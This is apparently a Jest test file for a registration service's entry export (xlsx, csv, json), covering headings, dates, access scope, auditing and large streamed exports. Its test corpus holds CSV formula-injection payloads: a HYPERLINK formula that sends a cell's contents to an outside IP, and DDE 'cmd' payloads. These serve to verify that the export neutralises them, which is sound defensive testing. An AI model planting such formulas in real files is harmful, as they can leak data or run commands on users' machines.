import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals';
import type { Grant } from '@sangtao/service-kit/auth';
import { parse } from 'csv-parse/sync';
import exceljs from 'exceljs';
import { ann, bob, RegistrationWorld, secretary, whole } from './registration-world.js';

jest.setTimeout(60_000);
let world: RegistrationWorld;
let edition: string;

/** Texts that would run as formulas, at the start of a cell and where other separators would start one. */
const corpus = [
  `=HYPERLINK("http://203.0.113.9/?x="&A1;"Xem")`,
  `+1+1`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `a;=1+1`,
  `a"=1+1`,
  `a\n=1+1`,
  `a,@SUM(1)`,
  `Đèn – "hai" ngọn; 5 - 3`,
];
const officer: Grant[] = [{ role: 'officer', scope: '19' }];

async function ask(query: string, accountId = secretary, grants?: Grant[], language = 'vi'): Promise<Response> {
  const headers = { authorization: await world.bearer(accountId, grants), 'accept-language': language };
  return fetch(`${world.url}/screening/export?editionId=${edition}&${query}`, { headers });
}

async function workbookOf(answer: Response): Promise<exceljs.Worksheet> {
  const workbook = new exceljs.Workbook();
  await workbook.xlsx.load(await answer.arrayBuffer());
  return workbook.worksheets[0]!;
}

/** Without the added apostrophes; XML knows one end of a line. */
const plain = (text: string) => text.replaceAll(`'`, '').replaceAll('\r', '\n');

const csvOf = async (answer: Response) => {
  const text = Buffer.from(await answer.arrayBuffer()).toString();
  return { text, records: parse<Record<string, string>>(text, { bom: true, columns: true }) };
};

beforeAll(async () => {
  world = await RegistrationWorld.start();
  edition = await world.openEdition('EXPORT-26', ({ form, timeZone }) => {
    expect(timeZone).toBe('Asia/Ho_Chi_Minh');
    form.sections[0]!.items.push(
      { key: 'cost', kind: 'number', label: { vi: 'Chi phí', en: 'Cost' }, required: false, judged: false },
      { key: 'patented', kind: 'yes-no', label: { vi: 'Đã đăng ký', en: 'Patented' }, required: false, judged: false },
      {
        ...{ key: 'scale', kind: 'choice', label: { vi: 'Quy mô', en: 'Scale' }, required: false, judged: false },
        options: [{ value: 'pilot', label: { vi: 'Thử nghiệm', en: 'Pilot' } }],
      },
    );
  });
  const answers = { ...whole.answers, cost: -12.5, patented: true, scale: 'pilot' };
  for (const [index, title] of corpus.entries()) {
    const content = { ...whole, title, answers, provinceCode: index % 2 ? '19' : '01', submit: true };
    const { status, body } = await world.draft(edition, content);
    if (status !== 201) throw new Error(JSON.stringify(body));
  }
  await world.draft(edition, { ...whole, title: 'Bản nháp không xuất' });
  await world.system.database.query(
    `update registration.entry set submitted_at = '2026-03-01T18:30:00Z' where edition_id = $1 and state <> 'draft'`,
    [edition],
  );
});
afterAll(() => world.system.stop());

describe('the export of an edition’s entries', () => {
  test('opens as a workbook: Vietnamese headings, labels instead of codes, numbers and dates as such', async () => {
    const answer = await ask('format=xlsx');
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="EXPORT-26-bai-du-thi.xlsx"');
    const sheet = await workbookOf(answer);
    const rows = sheet.getSheetValues().slice(1) as unknown[][];
    const [head, ...body] = rows.map((row) => row.slice(1));
    expect(head!.slice(0, 7)).toEqual([
      ...['Mã bài', 'Tên bài dự thi', 'Lĩnh vực', 'Mã tỉnh', 'Trạng thái'],
      ...['Nộp lúc (Asia/Ho_Chi_Minh)', 'Sửa lúc (Asia/Ho_Chi_Minh)'],
    ]);
    expect(body).toHaveLength(corpus.length);
    const cell = (name: string) => body[0]![head!.indexOf(name)];
    expect(cell('Trạng thái')).toBe('Đã nộp, chờ kiểm tra');
    // 18:30 in UTC is the next morning there.
    expect(cell('Nộp lúc (Asia/Ho_Chi_Minh)')).toEqual(new Date('2026-03-02T01:30:00Z'));
    expect([cell('Chi phí'), cell('Đã đăng ký'), cell('Quy mô')]).toEqual([-12.5, 'Có', 'Thử nghiệm']);
    expect(cell('Tác giả')).toBe('Đỗ Thị Ước (100%)');
  });

  test.each(['xlsx', 'csv'])('runs no formula in %s, and changes nothing else', async (format) => {
    const answer = await ask(`format=${format}`);
    const titles =
      format === 'csv'
        ? (await csvOf(answer)).records.map((record) => record['Tên bài dự thi']!)
        : (await workbookOf(answer)).getColumn(2).values.slice(2).map(String);
    expect(titles).toHaveLength(corpus.length);
    for (const [index, title] of titles.entries()) {
      expect(title).not.toMatch(/^[=+\-@\t\r]/);
      expect(plain(title)).toBe(plain(corpus[index]!));
    }
    expect(titles.at(-1)).toBe(corpus.at(-1));
  });

  test('starts no cell with a formula in CSV, whatever a program takes for the separator', async () => {
    const { text, records } = await csvOf(await ask('format=csv'));
    expect(text.split(/[,;|"\t\r\n]/).filter((part) => /^[=+@]|^-(?!12\.5$)/.test(part))).toEqual([]);
    expect(records[0]).toMatchObject({ 'Chi phí': '-12.5', 'Nộp lúc (Asia/Ho_Chi_Minh)': '2026-03-02 01:30' });
  });

  test('is JSON for programs, with the values as they are', async () => {
    const answer = await ask('format=json', secretary, undefined, 'en');
    const { columns, items } = (await answer.json()) as { columns: object[]; items: Record<string, unknown>[] };
    expect(columns).toContainEqual({ key: 'answers.cost', heading: 'Cost' });
    expect(items.map(({ title }) => title)).toEqual(corpus);
    expect(items[0]).toMatchObject({ submittedAt: '2026-03-01T18:30:00.000Z', 'answers.patented': 'Yes' });
  });

  test('holds what the list holds: the filter, and an officer’s province only', async () => {
    const count = async (query: string, who = secretary, grants?: Grant[]) =>
      ((await (await ask(`format=json&${query}`, who, grants)).json()) as { items: object[] }).items.length;
    expect(await count('q=den')).toBe(1);
    expect(await count('state=accepted')).toBe(0);
    expect(await count('', bob, officer)).toBe(5);
    expect(await count('provinceCode=01', bob, officer)).toBe(0);
    expect((await ask('format=json', ann)).status).toBe(403);
    expect((await ask('format=pdf')).status).toBe(400);
  });

  test('is on record: who took what', async () => {
    const [row] = await world.system.database.query<{ actor: string; detail: object }>(
      `select actor, detail from registration.audit where action = 'export-entries' and actor = $1 order by at desc limit 1`,
      [bob],
    );
    expect(row).toMatchObject({ detail: { format: 'json', provinces: ['19'] } });
  });
});

describe('many entries', () => {
  beforeAll(async () => {
    await world.system.database.query(
      `insert into registration.entry (id, edition_id, code, state, applicant_id, title, field_code, answers, authors, submitted_at, changed_at, created_at)
       select gen_random_uuid(), $1, 'BIG-' || lpad(n::text, 5, '0'), 'accepted', $2, 'Bài số ' || n, 'materials',
         jsonb_build_object('summary', repeat('chữ ', 800)), '[]', now(), now(), now() from generate_series(1, 3000) as n`,
      [edition, ann],
    );
  });

  test('come whole and once, in the order of their codes', async () => {
    const answer = await ask('format=json&state=accepted');
    const { items } = (await answer.json()) as { items: { code: string }[] };
    expect(items.map(({ code }) => code)).toEqual(
      Array.from({ length: 3000 }, (_, n) => `BIG-${String(n + 1).padStart(5, '0')}`),
    );
  });

  test('of a reader that goes away leave no transaction and no place taken', async () => {
    for (let time = 0; time < 3; time++) {
      const answer = await ask('format=csv');
      await answer.body!.cancel();
      await ended();
    }
    expect((await csvOf(await ask('format=csv'))).records).toHaveLength(3000 + corpus.length);
  });

  test('are written for two readers at once; a third waits', async () => {
    const [one, two] = [await ask('format=json'), await ask('format=json')];
    const third = await ask('format=json');
    expect([one.status, two.status, third.status]).toEqual([200, 200, 503]);
    await Promise.all([one.body!.cancel(), two.body!.cancel()]);
    await ended();
  });

  /** No cursor is open any more. */
  async function ended(): Promise<void> {
    for (let tries = 0; tries < 200; tries++) {
      const open = await world.system.database.query(
        `select 1 as one from pg_stat_activity where state like 'idle in transaction%' and query like 'fetch%'`,
      );
      if (open.length === 0) return;
      await new Promise((resolve) => setTimeout(resolve, 25));
    }
    throw new Error('an export that nobody reads is still open');
  }
});
